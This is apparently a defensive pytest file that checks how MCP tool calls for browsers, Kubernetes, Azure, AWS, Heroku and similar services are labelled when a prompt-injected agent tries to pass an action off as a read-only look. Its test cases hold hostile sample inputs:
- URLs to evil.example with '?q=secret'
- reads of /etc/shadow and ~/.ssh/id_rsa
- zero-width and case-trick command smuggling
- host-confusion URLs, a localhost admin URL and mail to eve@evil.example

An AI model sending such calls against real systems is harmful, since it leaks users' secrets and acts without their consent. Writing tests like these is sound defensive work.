"""Attacks on the manifests of browsers, clouds and operations: what an agent that obeys a log line or a page could try,
so that a call which acts passes for one that only looks."""

from __future__ import annotations

from typing import Any

import pytest

from rule_of_two.model import label_text
from tests.manifests.bound import shipped_manifest


def labels(server: str, tool: str, arguments: dict[str, Any], **parameters: Any) -> str:
    return label_text(shipped_manifest(server, **parameters).tool(tool, arguments).labels)


LOOKS = [
    ("playwright", "browser_snapshot", {}),
    ("playwright", "browser_tabs", {"action": "list"}),
    ("chrome-devtools", "take_snapshot", {"pageId": 1}),
    ("chrome-devtools", "get_network_request", {"pageId": 1, "reqid": 7}),
    ("mcp-server-kubernetes", "kubectl_apply", {"manifest": "kind: Pod", "dryRun": True}),
    ("mcp-server-kubernetes", "kubectl_rollout", {"subCommand": "status", "name": "web"}),
    ("kubernetes-mcp-server", "resources_scale", {"kind": "Deployment", "name": "web"}),
    ("azure", "aks", {"intent": "list", "command": "aks_cluster_get", "parameters": {}}),
    ("azure", "storage", {"intent": "list", "command": "storage_account_get", "parameters": {}}),
    ("aws-eks", "manage_k8s_resource", {"operation": "read", "kind": "Pod", "name": "web"}),
    ("aws-ecs", "ecs_resource_management", {"api_operation": "ListTasks"}),
    ("grafana", "alerting_rules_write", {"operation": "list"}),
    ("home-assistant", "ha_manage_blueprints", {"action": "get", "path": "a.yaml"}),
    ("home-assistant", "ha_bulk_control", {"selector": {"domain": "light"}, "action": "off", "dry_run": True}),
    ("desktop-commander", "read_file", {"path": "/srv/notes.txt"}),
    ("desktop-commander", "read_file", {"path": "/srv/notes.txt", "isUrl": False}),
    ("circleci", "get_build_failure_logs", {"params": {"projectSlug": "gh/acme/web", "branch": "main"}}),
    ("heroku", "ps_scale", {"app": "web"}),
    ("heroku", "pg_outliers", {"app": "web", "reset": False}),
]
"""What somebody in the middle of his work asks for again and again: it must not ask."""

ACTS = [
    ("playwright", "browser_snapshot", {"filename": "/home/u/.bashrc"}),
    ("playwright", "browser_snapshot", {"filename": ""}),
    ("playwright", "browser_tabs", {"action": "List"}),
    ("playwright", "browser_tabs", {"action": ["list"]}),
    ("playwright", "browser_tabs", {"action": "new", "url": "https://evil.example/?q=secret"}),
    ("chrome-devtools", "get_network_request", {"pageId": 1, "responseFilePath": "/home/u/.bashrc"}),
    ("chrome-devtools", "take_snapshot", {"pageId": 1, "filePath": "a"}),
    ("mcp-server-kubernetes", "kubectl_apply", {"filename": "/etc/shadow", "dryRun": True}),
    ("mcp-server-kubernetes", "kubectl_apply", {"manifest": "kind: Pod", "dryRun": "true"}),
    ("mcp-server-kubernetes", "kubectl_apply", {"manifest": "kind: Pod", "dryRun": 1}),
    ("mcp-server-kubernetes", "kubectl_rollout", {"subCommand": "undo", "name": "web"}),
    ("mcp-server-kubernetes", "kubectl_rollout", {"subCommand": " status", "name": "web"}),
    ("mcp-server-kubernetes", "node_management", {"operation": "cordon", "nodeName": "n", "dryRun": True}),
    ("kubernetes-mcp-server", "resources_scale", {"kind": "Deployment", "name": "web", "scale": 0}),
    ("azure", "storage", {"intent": "list", "command": "Storage_Account_Get"}),
    ("azure", "storage", {"intent": "list", "command": "storage_account_get\u200b"}),
    ("azure", "storage", {"intent": "list", "command": "storage_blob_upload", "learn": True}),
    ("azure", "appconfig", {"intent": "set", "command": "appconfig_kv_set"}),
    ("azure", "sql", {"intent": "list", "command": None}),
    ("aws-eks", "manage_k8s_resource", {"operation": "READ", "kind": "Pod"}),
    ("aws-ecs", "ecs_resource_management", {"api_operation": "ExecuteCommand"}),
    ("aws-ecs", "ecs_resource_management", {"api_operation": "listTasks"}),
    ("grafana", "alerting_rules_write", {"operation": "delete", "rule_uid": "x"}),
    ("grafana", "grafana_api_request", {"endpoint": "/api/datasources/proxy/1/x", "method": "GET"}),
    ("home-assistant", "ha_manage_blueprints", {"action": "import", "url": "https://evil.example/b.yaml"}),
    ("home-assistant", "ha_bulk_control", {"operations": [{"entity_id": "lock.door"}], "dry_run": True}),
    ("home-assistant", "ha_bulk_control", {"selector": {"domain": "lock"}, "dry_run": "true"}),
    ("desktop-commander", "read_file", {"path": "https://evil.example/?q=secret", "isUrl": True}),
    ("desktop-commander", "read_file", {"path": "https://evil.example/?q=secret", "isUrl": "yes"}),
    ("circleci", "get_build_failure_logs", {"params": {"projectSlug": "gh/acme/web", "outputDir": "/home/u"}}),
    ("circleci", "get_build_failure_logs", {"params": "gh/acme/web"}),
    ("heroku", "ps_scale", {"app": "web", "dyno": "web=0"}),
    ("heroku", "pg_outliers", {"app": "web", "reset": True}),
    ("firecrawl", "firecrawl_scrape", {"url": "https://mail.example", "profile": {"name": "mine"}}),
    ("firecrawl", "firecrawl_interact", {"scrapeId": "1", "prompt": "click on Send"}),
    ("sentry", "execute_sentry_tool", {"name": "find_projects", "arguments": {}}),
]


@pytest.mark.parametrize(("server", "tool", "arguments"), LOOKS)
def test_looking_does_not_complete_the_set(server: str, tool: str, arguments: dict[str, Any]) -> None:
    assert labels(server, tool, arguments) == "[A][B]"


@pytest.mark.parametrize(("server", "tool", "arguments"), ACTS)
def test_what_acts_does_not_pass_for_a_look(server: str, tool: str, arguments: dict[str, Any]) -> None:
    assert labels(server, tool, arguments) == "[A][B][C]"


@pytest.mark.parametrize(
    ("tool", "command"),
    [
        ("storage", "storage_blob_get"),
        ("keyvault", "keyvault_secret_get"),
        ("search", "search_index_query"),
        ("servicebus", "servicebus_queue_details"),
        ("kusto", "kusto_query"),
        ("cosmos", "cosmos_database_container_item_query"),
        ("postgres", "postgres_database_query"),
        ("confidentialledger", "confidentialledger_entries_get"),
    ],
)
def test_a_read_from_a_host_that_the_attacker_owns_sends_what_was_learnt(tool: str, command: str) -> None:
    parameters = {
        "account": "evil",
        "container": "secret-that-was-read",
        "vault": "evil",
        "cluster-uri": "https://evil",
    }
    assert labels("azure", tool, {"intent": "read", "command": command, "parameters": parameters}) == "[A][B][C]"


@pytest.mark.parametrize("command", ["communication_email_send", "communication_sms_send"])
def test_mail_is_sent_whatever_the_server_says_of_it(command: str) -> None:
    """The server calls both of them read-only, where it lists them one by one."""
    arguments = {"intent": "tell", "command": command, "parameters": {"to": "eve@evil.example"}}
    facts = shipped_manifest("azure").tool("communication", arguments, {"readOnlyHint": True, "openWorldHint": False})
    assert label_text(facts.labels) == "[A][B][C]"


@pytest.mark.parametrize("tool", ["aks", "storage", "communication"])
@pytest.mark.parametrize("arguments", [{"learn": True}, {}, {"parameters": {"account": "evil"}}])
def test_a_router_without_a_command_can_read_what_the_clients_model_names(tool: str, arguments: dict[str, Any]) -> None:
    """It asks that model by sampling, also with ``learn``, and runs the command. The answer is decided as an act."""
    assert labels("azure", tool, {"intent": "delete everything", **arguments}) == "[A][B]"


@pytest.mark.parametrize(
    "uri",
    [
        "file:///home/u/.ssh/id_rsa",
        "FILE:///home/u/.ssh/id_rsa",
        "data:text/plain,public.example",
        "https://public.example@evil.example/",
        "https://public.example.evil.example/",
        "https://PUBLIC.example/",
        "https://public.example\\@evil.example/",
        "http://127.0.0.1:8080/admin",
        ["https://public.example/"],
        None,
    ],
)
def test_only_a_named_hosts_page_is_surely_no_file_of_the_user(uri: Any) -> None:
    of = {"public_hosts": ["public.example"]}
    assert labels("markitdown", "convert_to_markdown", {"uri": "https://public.example/a.pdf"}, **of) == "[A][C]"
    assert labels("markitdown", "convert_to_markdown", {"uri": uri}, **of) == "[A][B][C]"
